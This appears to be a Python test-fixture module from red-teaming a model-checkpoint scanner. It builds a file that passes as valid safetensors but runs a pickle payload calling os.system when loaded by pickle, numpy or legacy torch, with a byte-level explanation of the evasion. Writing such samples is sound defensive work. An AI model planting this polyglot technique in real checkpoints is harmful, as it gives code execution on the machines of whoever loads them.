"""Hostile samples from red-teaming the merged issue-10 product (red1).

Each builder writes a file that ckptguard once rated ``safe`` while a stock loader runs a
payload creating ``marker``. They are built byte by byte from first principles, documented
below; ``tests/test_hostile_red1.py`` proves each payload live under the stock loaders (in a
subprocess) and refused by scan, load and convert.
"""

from __future__ import annotations

import json
from pathlib import Path


def payload(marker: Path) -> bytes:
    """A protocol 0 pickle calling ``os.system('touch MARKER')``."""
    return b"cos\nsystem\n(S'touch " + str(marker).encode() + b"'\ntR."


def case_safetensors_pickle(path: Path, marker: Path) -> Path:
    """A valid safetensors file that is also a pickle running ``payload(marker)``.

    safetensors starts with its header length, 8 bytes little-endian. Low bytes ``C`` (0x43,
    SHORT_BINBYTES) and ``L`` make the unpickler skip ``L`` bytes: the rest of the length
    field, ``{`` and the JSON up to a ``V`` (UNICODE) at the start of a metadata string.
    UNICODE reads to the next newline: the rest of the JSON header (no newline in it) and on
    into the tensor data, a uint8 tensor whose bytes are ``\\n`` plus the payload. The header
    length is ``0x43 + 256 * L`` (about 7 KiB), padded with spaces; the JSON is valid, every
    tensor exactly covers the data, so a safetensors reader accepts the file, while
    ``pickle.load``, ``numpy.load(allow_pickle=True)`` and ``torch.load(weights_only=False)``
    (legacy path: not a zip, not a tar) run the payload.
    """
    data = b"\n" + payload(marker)
    prefix = '{"__metadata__":{"a":"'
    skip = 8 + len(prefix) - 2  # from byte 2 to the V
    length = 0x43 | (skip << 8)
    entry = {"dtype": "U8", "shape": [len(data)], "data_offsets": [0, len(data)]}
    header = prefix + 'V"},"t":' + json.dumps(entry, separators=(",", ":")) + "}"
    assert len(header) <= length and "\n" not in header
    header += " " * (length - len(header))
    path.write_bytes(length.to_bytes(8, "little") + header.encode() + data)
    return path


CASES = {
    "safetensors-pickle": case_safetensors_pickle,
}
